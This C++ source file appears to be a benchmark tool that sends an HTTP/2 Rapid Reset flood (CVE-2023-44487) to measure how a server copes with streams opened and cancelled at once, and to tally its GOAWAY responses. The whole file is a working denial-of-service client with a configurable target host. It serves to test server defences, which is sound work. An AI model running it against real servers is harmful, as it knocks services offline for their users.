// HTTP/2 Rapid Reset (CVE-2023-44487) as a client sends it, for scripts/bench: what a server
// pays per stream a client opens and cancels at once. Over one connection at a time (prior
// knowledge, cleartext): the preface and an empty SETTINGS, then HEADERS (GET /, END_STREAM)
// each followed at once by RST_STREAM(CANCEL), on stream ids 1, 3, 5, … as fast as the server
// takes them in: a PING after every 64 pairs, at most 16 such batches unacknowledged (1 024
// streams ahead of the server). When the server sends GOAWAY or closes, a new connection takes
// over; the run lasts --seconds.
//
//   h2_rapid_reset --port P --seconds S [--host 127.0.0.1] [--authority localhost]
//
// Prints one line: `streams=N connections=M goaways=G calm=E closed=C sent=T refused=R
// seconds=S goaway_codes=CODE:N,…`.
// streams: reset streams the server took in (on a connection it ended with GOAWAY, those up to
// the GOAWAY's last stream id; else every pair written); sent: HEADERS+RST_STREAM pairs written,
// those the server dropped after its GOAWAY included; goaways: connections ended by GOAWAY, calm:
// of them with ENHANCE_YOUR_CALM; closed: connections ended by a close without GOAWAY; refused:
// connects that failed (retried after 10 ms); goaway_codes: the GOAWAYs by error code.
//
// Frames are written by hand (RFC 9113 §4.1, §6) so that the client costs little next to the
// server; the header block uses only HPACK's static table and a literal without indexing (RFC 7541
// §6.1, §6.2.2), so one block serves every stream. The server's SETTINGS and PINGs are
// acknowledged and its DATA is given connection window, so a server that answers some streams
// before their reset arrives is never stalled by this client.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <boost/program_options.hpp>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <thread>

#include "bench/tool_support.hpp"

namespace {

using Clock = std::chrono::steady_clock;

enum : std::uint8_t {
  kData = 0,
  kHeaders = 1,
  kRstStream = 3,
  kSettings = 4,
  kPing = 6,
  kGoaway = 7
};
enum : std::uint8_t { kEndStream = 0x1, kAck = 0x1, kEndHeaders = 0x4 };
constexpr std::uint8_t kWindowUpdate = 8;
constexpr std::uint32_t kCancel = 8;
constexpr std::uint32_t kEnhanceYourCalm = 11;
constexpr std::uint32_t kMaxStreamId = 0x7fffffff;
// Pairs per batch, and batches sent ahead of the last one the server acknowledged: a PING follows
// each batch, and its ACK says the server has read the batch (frames are processed in order).
// 1 024 streams ahead (about 40 KiB) is more than a server reads in one go, so it never waits
// for this client; without a bound the socket buffers of loopback (megabytes) would hold about
// 100 000 pairs the server never reads once it has sent GOAWAY, and both sides would spend
// their CPU on them.
constexpr int kBatch = 64;
constexpr std::uint64_t kWindowBatches = 16;

void put32(std::string& out, std::uint32_t v) {
  out.push_back(static_cast<char>(v >> 24));
  out.push_back(static_cast<char>(v >> 16));
  out.push_back(static_cast<char>(v >> 8));
  out.push_back(static_cast<char>(v));
}

void frame(std::string& out, std::uint8_t type, std::uint8_t flags, std::uint32_t stream,
           std::string_view payload) {
  const auto n = static_cast<std::uint32_t>(payload.size());
  out.push_back(static_cast<char>(n >> 16));
  out.push_back(static_cast<char>(n >> 8));
  out.push_back(static_cast<char>(n));
  out.push_back(static_cast<char>(type));
  out.push_back(static_cast<char>(flags));
  put32(out, stream & kMaxStreamId);
  out.append(payload);
}

std::uint32_t get32(const char* p) {
  const auto* u = reinterpret_cast<const unsigned char*>(p);
  return (std::uint32_t{u[0]} << 24) | (std::uint32_t{u[1]} << 16) | (std::uint32_t{u[2]} << 8) |
         std::uint32_t{u[3]};
}

// :method GET (static index 2), :scheme http (6), :path / (4), :authority (name index 1) as a
// literal without indexing.
std::string header_block(const std::string& authority) {
  std::string block = "\x82\x86\x84\x01";
  block.push_back(static_cast<char>(authority.size()));  // < 127: one octet, no Huffman
  block += authority;
  return block;
}

struct Totals {
  long long streams = 0;
  long long sent = 0;
  long long connections = 0;
  long long goaways = 0;
  long long calm = 0;
  long long closed = 0;
  long long refused = 0;
  std::map<std::uint32_t, long long> goaway_codes;  // error code → GOAWAYs
};

// RFC 9113 §7's names of the codes a server ends a flood with; others as numbers.
std::string error_name(std::uint32_t code) {
  switch (code) {
    case 0:
      return "NO_ERROR";
    case 1:
      return "PROTOCOL_ERROR";
    case 2:
      return "INTERNAL_ERROR";
    case 11:
      return "ENHANCE_YOUR_CALM";
    default:
      return std::to_string(code);
  }
}

int connect_to(const sockaddr_in& address) {
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) {
    ::close(fd);
    return -1;
  }
  const int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  return fd;
}

// One connection until the server ends it or `deadline` passes; adds its figures to `totals`.
void attack(int fd, const std::string& block, Clock::time_point deadline, Totals& totals) {
  std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  frame(out, kSettings, 0, 0, {});
  std::string increment;
  put32(increment, (1u << 30));
  frame(out, kWindowUpdate, 0, 0, increment);
  std::size_t out_off = 0;
  std::string in;
  std::uint32_t next_id = 1;
  long long sent = 0;         // pairs handed to the socket or queued in `out`
  std::uint64_t batches = 0;  // PINGs sent, one after each batch
  std::uint64_t acked = 0;    // the last batch whose PING came back
  long long data_unacknowledged = 0;
  bool exhausted = false;
  std::string rst_payload;
  put32(rst_payload, kCancel);
  char buf[64 * 1024];

  std::optional<std::uint32_t> goaway_last;
  bool ended = false;
  while (!ended && Clock::now() < deadline) {
    while (!exhausted && batches - acked < kWindowBatches) {
      if (out_off > 0) {
        out.erase(0, out_off);
        out_off = 0;
      }
      for (int i = 0; i < kBatch; ++i) {
        if (next_id > kMaxStreamId - 2) {
          exhausted = true;
          break;
        }
        frame(out, kHeaders, kEndStream | kEndHeaders, next_id, block);
        frame(out, kRstStream, 0, next_id, rst_payload);
        next_id += 2;
        ++sent;
      }
      ++batches;
      std::string opaque;
      put32(opaque, static_cast<std::uint32_t>(batches >> 32));
      put32(opaque, static_cast<std::uint32_t>(batches));
      frame(out, kPing, 0, 0, opaque);
    }
    bool blocked = false;
    if (out_off < out.size()) {
      const ssize_t n =
          ::send(fd, out.data() + out_off, out.size() - out_off, MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n > 0) {
        out_off += static_cast<std::size_t>(n);
        blocked = out_off < out.size();
      } else if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
        blocked = true;
      } else if (n < 0 && errno != EINTR) {
        ended = true;  // reset by the server; a GOAWAY may still be readable
      }
    } else if (exhausted && acked == batches) {
      break;  // every stream id used and taken in: a new connection
    }

    for (;;) {
      const ssize_t n = ::recv(fd, buf, sizeof buf, MSG_DONTWAIT);
      if (n > 0) {
        in.append(buf, static_cast<std::size_t>(n));
        continue;
      }
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)) {
        ended = true;
      }
      break;
    }
    const std::uint64_t acked_before = acked;
    std::size_t pos = 0;
    while (in.size() - pos >= 9) {
      const auto* h = reinterpret_cast<const unsigned char*>(in.data() + pos);
      const std::size_t length = (std::size_t{h[0]} << 16) | (std::size_t{h[1]} << 8) | h[2];
      if (in.size() - pos < 9 + length) break;
      const std::uint8_t type = h[3];
      const std::uint8_t flags = h[4];
      const std::string_view payload(in.data() + pos + 9, length);
      pos += 9 + length;
      if (type == kSettings && (flags & kAck) == 0) {
        frame(out, kSettings, kAck, 0, {});
      } else if (type == kPing && (flags & kAck) != 0 && length == 8) {
        acked = std::max(acked,
                         (std::uint64_t{get32(payload.data())} << 32) | get32(payload.data() + 4));
      } else if (type == kPing) {
        frame(out, kPing, kAck, 0, payload);
      } else if (type == kGoaway && length >= 8) {
        goaway_last = get32(payload.data()) & kMaxStreamId;
        const std::uint32_t code = get32(payload.data() + 4);
        ++totals.goaway_codes[code];
        if (code == kEnhanceYourCalm) ++totals.calm;
        ended = true;
      } else if (type == kData) {
        data_unacknowledged += static_cast<long long>(length);
        if (data_unacknowledged >= (1 << 20)) {
          std::string grant;
          put32(grant, static_cast<std::uint32_t>(data_unacknowledged));
          frame(out, kWindowUpdate, 0, 0, grant);
          data_unacknowledged = 0;
        }
      }
    }
    in.erase(0, pos);

    // Wait only when the socket takes nothing more, or the server is behind by the whole window.
    if (!ended && (blocked || (acked == acked_before && batches - acked >= kWindowBatches))) {
      pollfd p{fd, static_cast<short>(POLLIN | (blocked ? POLLOUT : 0)), 0};
      ::poll(&p, 1, 50);
    }
  }
  // Pairs still queued here never left; of those sent, a server that ended the connection with
  // GOAWAY took in the streams up to its last stream id.
  const long long unsent = static_cast<long long>(out.size() - out_off) /
                           static_cast<long long>(9 + block.size() + 9 + 4);
  sent = std::max(0LL, sent - unsent);
  long long taken = sent;
  if (goaway_last) {
    taken = std::min(taken, static_cast<long long>((*goaway_last + 1) / 2));
    ++totals.goaways;
  } else if (ended) {
    ++totals.closed;
  }
  totals.sent += sent;
  totals.streams += taken;
}

}  // namespace

int main(int argc, char** argv) {
  namespace po = boost::program_options;
  std::string host = "127.0.0.1";
  unsigned short port = 0;
  double seconds = 8;
  std::string authority = "localhost";
  po::options_description options("h2_rapid_reset");
  options.add_options()("host", po::value(&host))("port", po::value(&port)->required())(
      "seconds", po::value(&seconds))("authority", po::value(&authority));
  if (!idemgate::bench::parse_options(argc, argv, options)) return 2;
  if (authority.size() >= 127) {
    std::fprintf(stderr, "--authority: at most 126 characters\n");
    return 2;
  }

  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  if (::inet_pton(AF_INET, host.c_str(), &address.sin_addr) != 1) {
    std::fprintf(stderr, "--host: not an IPv4 address: %s\n", host.c_str());
    return 2;
  }
  const std::string block = header_block(authority);
  const auto start = Clock::now();
  const auto deadline =
      start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
  Totals totals;
  while (Clock::now() < deadline) {
    const int fd = connect_to(address);
    if (fd < 0) {
      ++totals.refused;
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
      continue;
    }
    ++totals.connections;
    attack(fd, block, deadline, totals);
    ::close(fd);
  }
  const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
  std::string codes;
  for (const auto& [code, n] : totals.goaway_codes) {
    if (!codes.empty()) codes += ',';
    codes += error_name(code) + ":" + std::to_string(n);
  }
  std::printf(
      "streams=%lld connections=%lld goaways=%lld calm=%lld closed=%lld sent=%lld refused=%lld "
      "seconds=%.2f goaway_codes=%s\n",
      totals.streams, totals.connections, totals.goaways, totals.calm, totals.closed, totals.sent,
      totals.refused, elapsed, codes.empty() ? "-" : codes.c_str());
  return totals.connections > 0 ? 0 : 1;
}
